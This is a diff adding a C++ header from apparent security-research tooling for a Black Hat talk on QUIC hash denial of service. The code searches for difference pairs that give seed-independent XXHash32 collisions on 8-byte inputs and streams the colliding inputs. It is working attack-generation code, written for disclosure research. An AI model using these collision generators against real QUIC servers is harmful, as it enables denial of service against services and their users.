@@ -0,0 +1,218 @@
+// differential.h
+// Differential search for XXHash32 collisions on 8-byte inputs, shared by diff_crypt and
+// the joint collision tool
+// Author: Paul Bottinelli
+// For Black Hat EU 2025 - Cut to the QUIC: Slashing QUIC's Performance with a Hash DoS
+//
+// For an 8-byte input A || B, each candidate first difference D1 fixes the state after the
+// first round, and the second difference D2 that brings the last round back to the hash of
+// A || B is computed by inverting that round. The pair (D1, D2) is kept if it also produces
+// collisions for random inputs and seeds, so the inputs it yields collide whatever the seed.
+
+#pragma once
+
+#include <algorithm>
+#include <array>
+#include <cstdint>
+#include <random>
+#include "../common/collision_stream.h"
+#include "xxhash32.h"
+
+// XXHash32 constants and their modular inverses (mod 2^32)
+constexpr uint32_t Prime3 = 3266489917U;
+constexpr uint32_t Prime4 = 668265263U;
+constexpr uint32_t Prime5 = 374761393U;
+constexpr uint32_t inv_Prime3 = 2828982549U;
+constexpr uint32_t inv_Prime4 = 2701016015U;
+
+// Configuration constants
+constexpr uint8_t NUM_VERIFICATION_TESTS = 20;     // Number of random tests per differential
+constexpr size_t ARRAY_SIZE = 8;                    // Size of input arrays
+
+// Rotate bits right (should compile to a single CPU instruction - ROR)
+inline constexpr uint32_t rotateRight(uint32_t x, unsigned char bits) noexcept {
+    return (x >> bits) | (x << (32 - bits));
+}
+
+// Convert 4-byte array to uint32_t (little-endian)
+inline uint32_t bytes_to_uint32(const uint8_t* bytes) noexcept {
+    return static_cast<uint32_t>(bytes[0]) |
+           (static_cast<uint32_t>(bytes[1]) << 8) |
+           (static_cast<uint32_t>(bytes[2]) << 16) |
+           (static_cast<uint32_t>(bytes[3]) << 24);
+}
+
+// Convert uint32_t to 4-byte array (little-endian)
+inline std::array<uint8_t, 4> uint32_to_bytes(uint32_t value) noexcept {
+    return {
+        static_cast<uint8_t>(value & 0xFF),
+        static_cast<uint8_t>((value >> 8) & 0xFF),
+        static_cast<uint8_t>((value >> 16) & 0xFF),
+        static_cast<uint8_t>((value >> 24) & 0xFF)
+    };
+}
+
+// Apply differences to 8-byte array (first diff to first 4 bytes, second diff to last 4 bytes)
+inline std::array<uint8_t, ARRAY_SIZE> apply_diffs_to_array(
+    const uint8_t* input, uint32_t diff1, uint32_t diff2) noexcept {
+
+    std::array<uint8_t, ARRAY_SIZE> output;
+
+    // Apply diff1 to first 4 bytes
+    auto first_bytes = uint32_to_bytes(bytes_to_uint32(input) + diff1);
+    std::copy(first_bytes.begin(), first_bytes.end(), output.begin());
+
+    // Apply diff2 to last 4 bytes
+    auto last_bytes = uint32_to_bytes(bytes_to_uint32(&input[4]) + diff2);
+    std::copy(last_bytes.begin(), last_bytes.end(), output.begin() + 4);
+
+    return output;
+}
+
+// Compute the chunk value needed to reach target hash from a given intermediate state
+// This reverses one round of XXHash32 computation
+inline uint32_t back_round_for_chunk(uint32_t target, uint32_t middle_value) noexcept {
+    uint32_t result = target * inv_Prime4;
+    result = rotateRight(result, 17);
+    return (result - middle_value) * inv_Prime3;
+}
+
+// Test a differential hypothesis multiple times with random inputs and seeds
+// Returns true if all tests produce collisions, false if any test fails
+// Note: Tests n different seeds, with n random inputs per seed (total n*n tests)
+inline bool test_single_hypothesis_n_times(uint32_t diff1, uint32_t diff2, uint8_t n,
+                                           std::mt19937& rng) {
+    std::uniform_int_distribution<uint32_t> dist(0, 255);
+
+    for (size_t j = 0; j < n; ++j) {
+        // Generate random seed
+        std::array<uint8_t, 4> seed_array;
+        for (auto& byte : seed_array) {
+            byte = static_cast<uint8_t>(dist(rng));
+        }
+        const uint32_t seed = bytes_to_uint32(seed_array.data());
+
+        // Test n times with different random inputs
+        for (size_t i = 0; i < n; ++i) {
+            // Generate random 8-byte array
+            std::array<uint8_t, ARRAY_SIZE> array1;
+            for (auto& byte : array1) {
+                byte = static_cast<uint8_t>(dist(rng));
+            }
+
+            // Compute its hash
+            const uint32_t hash_result = XXHash32::hash_no_final_bit_mixing(
+                array1.data(), ARRAY_SIZE, seed);
+
+            // Apply diffs to array1
+            const auto array2 = apply_diffs_to_array(array1.data(), diff1, diff2);
+
+            // Compute its hash
+            const uint32_t hash_result2 = XXHash32::hash_no_final_bit_mixing(
+                array2.data(), ARRAY_SIZE, seed);
+
+            if (hash_result != hash_result2) {
+                return false;
+            }
+        }
+    }
+
+    return true;
+}
+
+// Check that the bits set in fixed_mask are the same in both arrays
+inline bool fixed_bits_unchanged(const uint8_t* original, const uint8_t* modified,
+                                 const uint8_t* fixed_mask) noexcept {
+    for (size_t i = 0; i < ARRAY_SIZE; ++i) {
+        if ((original[i] ^ modified[i]) & fixed_mask[i]) {
+            return false;
+        }
+    }
+    return true;
+}
+
+// Search for differential characteristics that produce hash collisions with input_array,
+// calling found(diff1, diff2) for each of them until it returns false, and
+// progress(candidates, total, n_found) every progress_interval candidates.
+// Bits set in fixed_mask (e.g. a version byte) must be left unchanged by the differences:
+// only the diff1 values keeping them are enumerated, and diff2 values that would change
+// them are rejected before the (much more expensive) verification.
+// Returns the number of diff1 candidates tried.
+template <typename Found, typename Progress>
+uint64_t search_differences(const uint8_t* input_array, std::mt19937& rng,
+                            const uint8_t* fixed_mask, Found found, Progress progress,
+                            uint64_t progress_interval = 10000) {
+    constexpr uint32_t myseed = 0;
+    const uint32_t first_four_bytes = bytes_to_uint32(input_array);
+    const uint32_t last_four_bytes = bytes_to_uint32(&input_array[4]);
+    const uint32_t hash_result = XXHash32::hash_no_final_bit_mixing(
+        input_array, ARRAY_SIZE, myseed);
+
+    const uint32_t fixed1 = fixed_mask ? bytes_to_uint32(fixed_mask) : 0;
+    const uint32_t fixed2 = fixed_mask ? bytes_to_uint32(&fixed_mask[4]) : 0;
+    const uint32_t free1 = ~fixed1;
+
+    // Enumerate the free bits of m1 = first_four_bytes + diff1 as a counter over the free bit
+    // positions, starting right after the original value so that without a mask the diffs
+    // come in the order 1, 2, 3, ... Every value but the original one is visited once.
+    const uint64_t total_loop = (uint64_t(1) << __builtin_popcount(free1)) - 1;
+    uint32_t free_bits = first_four_bytes & free1;
+    uint64_t total_count = 0;
+
+    for (uint64_t i = 1; i <= total_loop; ++i) {
+        free_bits = ((free_bits | fixed1) + 1) & free1;
+        const uint32_t m1 = (first_four_bytes & fixed1) | free_bits;
+        const uint32_t diff = m1 - first_four_bytes;
+
+        // hash_single_round only uses the first four bytes, but the length (8) is part of
+        // the state and add() copies that many bytes, so the last four are left zero
+        std::array<uint8_t, ARRAY_SIZE> m1_bytes{};
+        const auto m1_word = uint32_to_bytes(m1);
+        std::copy(m1_word.begin(), m1_word.end(), m1_bytes.begin());
+        const uint32_t intermediate_hash = XXHash32::hash_single_round(
+            m1_bytes.data(), ARRAY_SIZE, myseed);
+
+        const uint32_t chunk = back_round_for_chunk(hash_result, intermediate_hash);
+        const uint32_t diff2 = chunk - last_four_bytes;
+
+        // Test if this differential keeps the fixed bits of the last four bytes, then
+        // if this differential produces collisions with random inputs
+        if (((chunk ^ last_four_bytes) & fixed2) == 0 &&
+            test_single_hypothesis_n_times(diff, diff2, NUM_VERIFICATION_TESTS, rng)) {
+            ++total_count;
+            if (!found(diff, diff2)) {
+                return i;
+            }
+        }
+
+        // Display progress periodically
+        if (i % progress_interval == 0) {
+            progress(i, total_loop, total_count);
+        }
+    }
+
+    return total_loop;
+}
+
+// Stream of the 8-byte inputs colliding with input_array found by search_differences, in
+// the order their differentials are found. input_array and fixed_mask (may be null) are
+// copied; the stream ends once every first difference has been tried.
+inline CollisionStream stream_differences(const uint8_t* input_array, uint32_t seed,
+                                          const uint8_t* fixed_mask = nullptr) {
+    std::array<uint8_t, ARRAY_SIZE> input;
+    std::array<uint8_t, ARRAY_SIZE> mask = {};
+    std::copy(input_array, input_array + ARRAY_SIZE, input.begin());
+    if (fixed_mask) {
+        std::copy(fixed_mask, fixed_mask + ARRAY_SIZE, mask.begin());
+    }
+    return CollisionStream([input, mask, seed](CollisionStream::Sink& sink) {
+        std::mt19937 rng(seed);
+        search_differences(input.data(), rng, mask.data(),
+                           [&](uint32_t diff1, uint32_t diff2) {
+                               const auto collision = apply_diffs_to_array(input.data(), diff1, diff2);
+                               sink(collision.data(), collision.size());
+                               return true;
+                           },
+                           [](uint64_t, uint64_t, uint64_t) {});
+    }, 16);
+}